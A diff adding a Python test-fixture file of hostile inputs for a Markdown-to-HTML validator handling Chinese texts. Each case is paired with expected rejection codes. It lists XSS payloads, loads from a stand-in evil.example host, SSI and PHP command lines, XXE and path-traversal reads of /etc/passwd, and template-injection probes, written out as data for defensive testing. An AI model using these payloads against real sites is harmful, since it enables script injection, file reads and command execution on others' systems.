@@ -1,0 +1,318 @@
+"""HTML in texts, and Markdown's own features as ways to it."""
+
+from tests.hostile.case import Case, body, numbered
+
+NO = "html-not-allowed"
+
+HTML = numbered(
+    "html",
+    [
+        # scripts and handlers
+        ("<script>canary()</script>", NO),
+        ("<ScRiPt>canary()</sCrIpT>", NO),
+        ("<script src=https://evil.example/x.js></script>", NO),
+        ("<script\n>canary()</script\n>", NO),
+        ("<script/x>canary()</script>", NO),
+        ("<scr<script>ipt>canary()</script>", NO),
+        ("<img src=x onerror=canary()>", NO),
+        ("<img src=x onerror\n=\ncanary()//", NO),
+        ('<img """><script>canary()</script>">', NO),
+        ("<body onload=canary()>", NO),
+        ("<svg/onload=canary()>", NO),
+        ("<details open ontoggle=canary()>点开</details>", NO),
+        ("<video><source onerror=canary()></video>", NO),
+        ("<audio src=x onerror=canary()>", NO),
+        ("<input autofocus onfocus=canary()>", NO),
+        ("<select autofocus onfocus=canary()>", NO),
+        ("<marquee onstart=canary()>滚动</marquee>", NO),
+        ("<p onclick=canary()>点我</p>", NO),
+        ("<sub onmouseover=canary()>2</sub>", f"{NO} html-unclosed"),
+        ("<kbd style=animation-name:x onanimationend=canary()>x</kbd>", f"{NO} html-unclosed"),
+        ("<x onpointerenter=canary()>移过来</x>", NO),
+        ("<a href=javascript:canary()>点我</a>", NO),
+        # frames, forms, the document
+        ("<iframe src=https://evil.example/></iframe>", NO),
+        ('<iframe srcdoc="&lt;script&gt;parent.canary()&lt;/script&gt;"></iframe>', NO),
+        ("<object data=https://evil.example/x.swf></object>", NO),
+        ("<embed src=https://evil.example/x>", NO),
+        ("<applet code=X></applet>", NO),
+        ("<frameset><frame src=https://evil.example/></frameset>", NO),
+        ("<form action=https://evil.example/><input name=密码><button>登录</button></form>", NO),
+        ("<button formaction=javascript:canary()>领奖</button>", NO),
+        ("<isindex action=javascript:canary() type=image>", NO),
+        ("<keygen autofocus onfocus=canary()>", NO),
+        ("<base href=https://evil.example/>", NO),
+        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', NO),
+        ('<meta http-equiv="Set-Cookie" content="a=b">', NO),
+        ("<link rel=stylesheet href=https://evil.example/x.css>", NO),
+        ("<link rel=import href=https://evil.example/>", NO),
+        ("<html><head><title>假的</title></head><body>假页</body></html>", "html-pasted"),
+        ("<title>假的</title>", NO),
+        ("</article></main><h1>盖住下面</h1>", NO),
+        ("</div></div></div>", NO),
+        # looks
+        ("<style>body{display:none}</style>", NO),
+        ("<style>@import url(https://evil.example/x.css);</style>", NO),
+        ('<div style="position:fixed;inset:0;background:#fff">盖住全页</div>', NO),
+        ('<span style="font-size:0">隐藏的词</span>', NO),
+        ('<div style="background:url(https://evil.example/p.gif)">x</div>', NO),
+        ('<div style="width:expression(canary())">x</div>', NO),
+        ('<a href="https://spam.example/" style="display:none">买药</a>', NO),
+        ("<font color=white>买药</font>", NO),
+        ("<center>居中</center>", NO),
+        ("<plaintext>吞掉后面", NO),
+        ("<xmp><script>canary()</script></xmp>", NO),
+        ("<noscript><p title='</noscript><img src=x onerror=canary()>'></noscript>", NO),
+        ("<textarea><img src=x onerror=canary()></textarea>", NO),
+        # loading from elsewhere
+        ('<img src="https://evil.example/pixel.gif" width=1 height=1>', NO),
+        ("<img srcset='https://evil.example/x.jpg 1x'>", NO),
+        ("<picture><source srcset=//evil.example/x.webp><img></picture>", NO),
+        ("<video poster=https://evil.example/x.jpg></video>", NO),
+        ("<table background=https://evil.example/x.gif><tr><td>x</table>", NO),
+        ("<image src=https://evil.example/x.gif>", NO),
+        ("<input type=image src=https://evil.example/x.gif>", NO),
+        # foreign content, mutation
+        ("<svg><script>canary()</script></svg>", NO),
+        ("<svg><a xlink:href=javascript:canary()><text y=20>点</text></a></svg>", NO),
+        ("<svg><use href=data:image/svg+xml;base64,AAAA#x /></svg>", NO),
+        ("<svg><foreignObject><iframe src=x></iframe></foreignObject></svg>", NO),
+        ("<svg><animate onbegin=canary() attributeName=x dur=1s></svg>", NO),
+        ("<svg><set attributeName=href to=javascript:canary()></svg>", NO),
+        ("<math><maction actiontype=statusline xlink:href=javascript:canary()>x</maction></math>", NO),
+        ("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=canary()&gt;'>", NO),
+        ("<svg></p><style><a id='</style><img src=1 onerror=canary()>'>", NO),
+        ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>", NO),
+        ("<listing>&lt;img src=x onerror=canary()&gt;</listing>", NO),
+        ("<template><script>canary()</script></template>", NO),
+        ("<template shadowrootmode=open><style>:host{all:initial}</style></template>", NO),
+        ("<div><template shadowroot=open><slot></slot></template></div>", NO),
+        ("<x-widget is=x onclick=canary()>x</x-widget>", NO),
+        # clobbering
+        ("<img name=body>", NO),
+        ("<form id=forms><input name=action></form>", NO),
+        ("<a id=canary></a><a id=canary name=x href=https://evil.example/></a>", NO),
+        ("<p id=main>占用锚点</p>", NO),
+        # what is no element
+        ("<!-- 注释 -->", NO),
+        ("<!--><script>canary()</script>-->", NO),
+        ("<!-- --!><script>canary()</script>-->", NO),
+        ("<!--#include virtual='/etc/passwd' -->", NO),
+        ("<!--#exec cmd='id' -->", NO),
+        ("<!--[if IE]><script>canary()</script><![endif]-->", NO),
+        ("<![CDATA[<script>canary()</script>]]>", NO),
+        ("<!DOCTYPE html>", NO),
+        ("<!ENTITY x SYSTEM 'file:///etc/passwd'>", NO),
+        ("<?php system('id'); ?>", NO),
+        ("<?xml-stylesheet href='https://evil.example/x.xsl'?>", NO),
+        ("<? echo 1 ?>", NO),
+        ("<%= 7*7 %>", "", "<%= 7*7 %>"),
+        # unclosed
+        ("<b", NO),
+        ("<a href='", NO),
+        ('<img src="x', NO),
+        ("<script", NO),
+        ("<!--", NO),
+        ("</", NO),
+        ("<sub>没有关", "html-unclosed"),
+        ("没有开</sup>", "html-unclosed"),
+        ("<sub><sup>交叉</sub></sup>", "html-unclosed"),
+        ("<ruby><mark><rt>x</rt></mark></ruby>", "html-unclosed"),
+        ("<li>散落的项", NO),
+        ("<td>散落的格", NO),
+        ("<option>散落的项", NO),
+        # in disguise
+        ("&#60;script&#62;canary()&#60;/script&#62;", NO),
+        ("&#x3c;img src=x onerror=canary()&#x3e;", NO),
+        ("&LT;script&GT;canary()", NO),
+        ("&lt;script&gt;canary()&lt;/script&gt;", "", "<script>canary()</script>"),
+        ("＜script＞canary()＜/script＞", "", "＜script＞canary()＜/script＞"),
+        ("\\<script>canary()\\</script>", "", "<script>canary()</script>"),
+        ("%3Cscript%3Ecanary()%3C/script%3E", "", "%3Cscript%3Ecanary()%3C/script%3E"),
+        ("\\u003cscript\\u003e", "", "u003cscript"),
+        ("+ADw-script+AD4-canary()+ADw-/script+AD4-", "", "+ADw-script+AD4-"),
+        # templates
+        ("{{ 7*7 }} {{ config }}", "", "{{ 7*7 }} {{ config }}"),
+        ("{% raw %}{% include '/etc/passwd' %}{% endraw %}", "", "{% include '/etc/passwd' %}"),
+        ("{# 注释 #} ${7*7} #{7*7} <%25 %>", "", "${7*7} #{7*7}"),
+        ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "", "subclasses"),
+        ("{filename}../../etc/passwd {static}/x {attach}y |filename|z", "", "{filename}../../etc/passwd"),
+        ("[读](%7Bfilename%7D../../../etc/passwd)", "link-path"),
+        # sound HTML
+        ("H<sub>2</sub>O，按<kbd>Ctrl</kbd>，<mark>**要紧**</mark>，<u>线</u>", "", "H2O，按Ctrl，要紧，线"),
+        ("甲<br>乙<br/>丙", "", "甲", "乙", "丙"),
+        ("<ruby>逊<rp>（</rp><rt>xùn</rt><rp>）</rp></ruby>克", "", "逊"),
+        ("3 < 5，5 > 3，a<3，a<=b，<-，->", "", "3 < 5，5 > 3，a<3，a<=b，<-，->"),
+        ("《书名》〈篇名〉<<引>>", "", "《书名》〈篇名〉<<引>>"),
+    ],
+)
+
+PASTED = [
+    body(
+        "pasted-wechat",
+        '<section data-role="outer" label="Powered by 135editor.com" style="font-size:16px">'
+        '<section class="_135editor"><p style="text-align:center"><span style="color:#ff0000">三联动会议</span></p>'
+        "<p><br></p></section></section>",
+        "html-pasted",
+    ),
+    body(
+        "pasted-mp",
+        '<p style="margin:0 8px"><span style="letter-spacing:1px" data-pm-slice="0 0 []">克林镇召开会议</span></p>\n'
+        '<p><img class="rich_pages wxw-img" data-src="https://mmbiz.qpic.cn/x" data-type="jpeg"></p>\n'
+        '<mp-style-type data-value="3"></mp-style-type>',
+        "html-pasted",
+    ),
+    body(
+        "pasted-word",
+        '<p class=MsoNormal style="text-indent:21.0pt"><span lang=EN-US style="mso-bidi-font-size:10.5pt">'
+        "<o:p>&nbsp;</o:p></span></p>\n"
+        "<!--[if gte mso 9]><xml><w:WordDocument></w:WordDocument></xml><![endif]-->\n"
+        '<p class=MsoNormal><b><span style="font-family:宋体">会议通知</span></b></p>',
+        "html-pasted",
+    ),
+    body(
+        "pasted-wps",
+        '<html xmlns:wp="http://www.wps.cn"><head><meta name="Generator" content="WPS Office"></head><body>'
+        '<p class="p0" style="margin-bottom:0pt"><span style="mso-spacerun:\'yes\';font-family:仿宋">全文</span></p>'
+        "</body></html>",
+        "html-pasted",
+    ),
+    body("pasted-browser", '<div class="article"><h1 class="t">标题</h1><p>正文<b>粗</b></p></div>', "html-pasted"),
+    body(
+        "pasted-hundreds",
+        "\n".join(f'<p style="x"><span class="y">第{number}行</span></p>' for number in range(300)),
+        "html-pasted",
+    ),
+]
+
+LONG = 90_000
+
+
+def much(unit: str) -> str:
+    """A unit, over and over, to the length of a long text."""
+    return (unit * LONG)[:LONG]
+
+
+MARKDOWN = [
+    *numbered(
+        "md",
+        [
+            # attribute lists, ids, raw blocks: not in our syntax, so they are words
+            ("## 第一节 {#forms}\n\n文", "", "第一节 {#forms}"),
+            ("## 第二节 {: onclick=canary() }\n\n文", "", "{: onclick=canary() }"),
+            ("段落\n{: style='position:fixed' #body .menu }", "", "{: style='position:fixed' #body .menu }"),
+            ("*强调*{: onmouseover=canary() }", "", "{: onmouseover=canary() }"),
+            (":::{raw} html\n甲\n:::", "", "{raw} html"),
+            (".. raw:: html\n\n   甲", "", ".. raw:: html"),
+            ("$$\\href{javascript:canary()}{x}$$", "", "javascript:canary()"),
+            ("## constructor\n\n## __proto__\n\n## toString\n\n文", "", "constructor"),
+            ("## <img src=x onerror=canary()>\n\n文", NO),
+            ("# 大标题\n\n# 又一个\n\n文", "", "大标题", "又一个"),
+            # reference definitions
+            ("[点我][a]\n\n[a]: javascript:canary()", "link-scheme"),
+            ("[点我]\n\n[点我]: JaVaScRiPt:canary()", "link-scheme"),
+            ("![图][a]\n\n[a]: https://evil.example/p.gif", "picture-foreign"),
+            ('[点我][a]\n\n[a]: https://a.example "<script>canary()</script>"', NO),
+            ("[点我][没有]", "reference-missing"),
+            ('[a]: https://a.example "\n\n后面的话', "", "后面的话"),
+            # abbreviations, footnotes, fences
+            ('五老来了\n\n*[五老]: " onmouseover="canary()', "", "五老来了"),
+            ("五老来了\n\n*[五老]: <script>canary()</script>", NO),
+            ("话[^1]\n\n[^1]: <script>canary()</script>", NO),
+            ('话[^"><script>canary()</script>]\n\n[^"><script>canary()</script>]: 注', "", "注"),
+            ("话[^constructor]\n\n[^constructor]: 原型注", "", "原型注"),
+            ("话[^__proto__]\n\n[^__proto__]: 又一注", "", "又一注"),
+            ("话[^缺]", "footnote-missing"),
+            ("话[^1]\n\n[^1]: 注[^2]\n\n[^2]: 再注[^1]", "", "再注"),
+            ('```"><script>canary()</script>\n代码\n```', "", "代码"),
+            ("```html onload=canary()\n<script>canary()</script>\n```", "", "<script>canary()</script>"),
+            ("~~~ {.python #forms onclick=canary()}\n代码\n~~~", "", "代码"),
+            ("```\n没有结尾", "code-unclosed"),
+            ("`<img src=x onerror=canary()>`", "", "<img src=x onerror=canary()>"),
+            ("``` `<b>` ```", "", "`<b>`"),
+            ("    <script>canary()</script>", NO),
+            ("> <script>canary()</script>", NO),
+            ("- <script>canary()</script>", NO),
+            ("| 甲 |\n|---|\n| <script>canary()</script> |", NO),
+            ("| 甲 |\n|---|\n| `<script>` |", "", "<script>"),
+            ("词\n: <script>canary()</script>", NO),
+            ("**<script>canary()</script>**", NO),
+            ("[<script>canary()</script>](https://a.example)", NO),
+            ("[![图](https://evil.example/p.gif)](https://a.example)", "picture-foreign"),
+            ("![<script>canary()</script>](sound.jpg)", NO),
+            ('![" onerror="canary()](sound.jpg)', "", ""),
+            ('![会场](sound.jpg "\\" onload=\\"canary()")', "", "onload"),
+            ('![会场](sound.jpg "图注<script>canary()</script>")', NO),
+            ("![会场](sound.jpg 'x' onerror='canary()')", "picture-path"),
+            ("![](sound.jpg)", "picture-alt"),
+            ("![   ](sound.jpg)", "picture-alt"),
+            ("![会场](nothing.jpg)", "picture-missing"),
+            ("![会场](data:image/png;base64,iVBORw0KGgo=)", "picture-foreign"),
+            ("![会场](https://evil.example/p.gif)", "picture-foreign"),
+            ("![会场](//evil.example/p.gif)", "picture-foreign"),
+            ("![会场](../../../../etc/passwd)", "picture-path"),
+            ("![会场](/images/x.jpg)", "picture-path"),
+            ("![会场](sound.svg)", "picture-path"),
+            ("![会场](sound.jpg?x=1)", "picture-path"),
+            ("![会场](sound.jpg#x)", "picture-path"),
+            ("![会场](sound%2ejpg)", "", ""),
+            ("![会场](sound.jpg%00.md)", "picture-path"),
+            ("![会场](file:///etc/passwd)", "picture-foreign"),
+            # structure
+            ("***\n---\n___\n文", "", "文"),
+            ("1. 一\n999999999999. 大\n", "", "大"),
+            ("999999999. 甲", "", "甲"),
+            ("- [ ] 待办\n- [x] 办了", "", "[ ] 待办"),
+            ("| 甲 |\n|---|---|---|\n| 乙 | 丙 |", "", "乙"),
+            ("\\\\\\`\\*\\_\\{\\}\\[\\]\\(\\)\\#\\+\\-\\.\\!", "", "`*_{}[]()#+-.!"),
+            ("&copy; &amp;copy; &nosuch; &#169;", "", "© &copy; &nosuch; ©"),
+            ("&#0;", "entity-invalid"),
+            ("&#x202e;翻", "entity-invalid"),
+            ("&#xD800;", "entity-invalid"),
+            ("&ZeroWidthSpace;", "entity-invalid"),
+        ],
+    ),
+    # beyond bounds: an end, and a clear message
+    *[
+        body(f"much-{number:02}", much(unit), codes, *shows)
+        for number, (unit, codes, *shows) in enumerate(
+            [
+                ("[", "too-nested"),
+                ("![", "too-nested"),
+                ("](", "", "](]("),
+                ("*", ""),
+                ("*a **b ", "too-nested"),
+                ("_", ""),
+                ("`", "code-unclosed"),
+                ("<", "too-nested"),
+                ("<a ", "html-pasted"),
+                ("<!--", "too-nested"),
+                ("&", "too-nested"),
+                ("\\", "too-nested"),
+                ("> ", "too-nested"),
+                (">", "too-nested"),
+                ("- ", ""),
+                ("|", "", "||||"),
+                ("|a|\n", "", "|a|"),
+                ("[a](b", "too-nested"),
+                ("[^a]: b\n", "footnote-unused"),
+                ("#", ""),
+                ("\n", "body-empty"),
+            ],
+            1,
+        )
+    ],
+    body("nested-quotes", ">" * 500 + "甲", "too-nested"),
+    body("nested-lists", "".join("    " * depth + "- 甲\n" for depth in range(120)), "too-nested"),
+    body("nested-emphasis", "*" * 300 + "甲" + "*" * 300, "", "甲"),
+    body("nested-brackets", "[" * 300 + "甲" + "]" * 300, "", "甲"),
+    body("nested-links", "[甲](" * 200 + "x" + ")" * 200, "link-path"),
+    body("note-chain", "[^0]\n\n" + "\n".join(f"[^{n}]: 注[^{n + 1}]" for n in range(800)) + "\n[^800]: 末", "", "末"),
+    body("wide-table", "|" + "甲|" * 200 + "\n|" + "-|" * 200 + "\n|" + "乙|" * 200, "", "乙|乙"),
+    body("long-word", "啊" * 20_000, "", "啊" * 100),
+    body("long-latin", "a" * 20_000, "", "a" * 100),
+    body("too-long", "字" * 100_001, "too-long"),
+    body("too-large", "字" * 400_000, "file-too-large"),
+]
+
+KINDS: dict[str, list[Case]] = {"html": HTML, "pasted": PASTED, "markdown": MARKDOWN}
